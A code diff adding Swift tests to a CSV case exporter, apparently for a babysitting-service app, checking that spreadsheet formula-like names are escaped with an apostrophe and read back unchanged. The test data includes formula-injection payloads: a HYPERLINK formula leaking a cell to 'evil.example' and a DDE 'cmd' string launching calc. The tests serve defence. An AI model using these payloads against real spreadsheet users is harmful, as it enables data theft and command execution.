@@ -199,6 +199,59 @@ struct CSVCaseTests {
         for f in try CSVCaseWriter.files(imported) { #expect(Data(f.text.utf8) == data[f.name], "\(f.name)") }
     }
 
+    /// Names a spreadsheet would run as formulas: written with a leading `'`, read back as they were.
+    @Test func formulaLikeValuesAreWrittenAsTextAndReadBack() throws {
+        var c = try Self.jsonCase()
+        c.name = "=1+1"
+        c.sitters[0].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+        c.sitters[1].name = "+cmd|' /C calc'!A0"
+        c.sitters[2].name = "@SUM(1+1)"
+        c.sitters[3].name = "\t=1+1"
+        c.families[0].name = "-2+3"
+        c.families[1].name = "'=already quoted"
+        c.territories[0].name = "'tit Jean"
+        // A list cell whose first item starts with `-`.
+        c.sitters[0].competencies.insert("-night")
+        c.visits[0].competencies.insert("-night")
+        for style in [CSV.Style.spreadsheet, CSV.Style(delimiter: ",", byteOrderMark: false, lineEnd: "\n")] {
+            let files = try CSVCaseWriter.files(c, style: style)
+            for f in files {
+                for row in try CSV.parse(Data(f.text.utf8)).rows {
+                    for cell in row.cells {
+                        let first = cell.text.unicodeScalars.first
+                        #expect(
+                            first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true,
+                            "\(f.name):\(cell.line):\(cell.column) \(cell.text.debugDescription)")
+                    }
+                }
+            }
+            let sitters = try #require(files.first { $0.name == "sitters.csv" }).text
+            #expect(sitters.contains("'@SUM(1+1)"), "\(sitters)")
+            #expect(sitters.contains("'-night,autism"), "\(sitters)")
+            let families = try #require(files.first { $0.name == "families.csv" }).text
+            #expect(families.contains("''=already quoted"), "\(families)")
+            #expect(try #require(files.first { $0.name == "territories.csv" }).text.contains("'tit Jean"))
+            let (back, ds) = CSVCaseReader.read(
+                Dictionary(uniqueKeysWithValues: files.map { ($0.name, Data($0.text.utf8)) }))
+            let b = try #require(back, "\(ds)")
+            #expect(Self.text(b) == Self.text(c))
+            #expect(b.sitters[1].name == "+cmd|' /C calc'!A0")
+            #expect(b.families[1].name == "'=already quoted")
+            #expect(b.territories[0].name == "'tit Jean")
+        }
+    }
+
+    @Test func formulaSafeAndUnescapedAreInverses() {
+        for v in ["", "a", "=a", "'=a", "''+a", "'a", "'", "-", "\t", "\r\nx", "@", "x=1", "é=", "'é"] {
+            #expect(CSV.formulaUnescaped(CSV.formulaSafe(v)) == v, "\(v.debugDescription)")
+            let first = CSV.formulaSafe(v).unicodeScalars.first
+            #expect(first.map { !"=+-@\t\r\n".unicodeScalars.contains($0) } ?? true, "\(v.debugDescription)")
+        }
+        // A cell a person typed with an apostrophe before a word keeps it.
+        #expect(CSV.formulaUnescaped("'tit Jean") == "'tit Jean")
+        #expect(CSV.formulaUnescaped("'-5") == "-5")
+    }
+
     @Test func aListItemASpreadsheetCannotHoldIsRefused() throws {
         var c = try Self.jsonCase()
         c.visits[0].competencies = ["sign, language"]
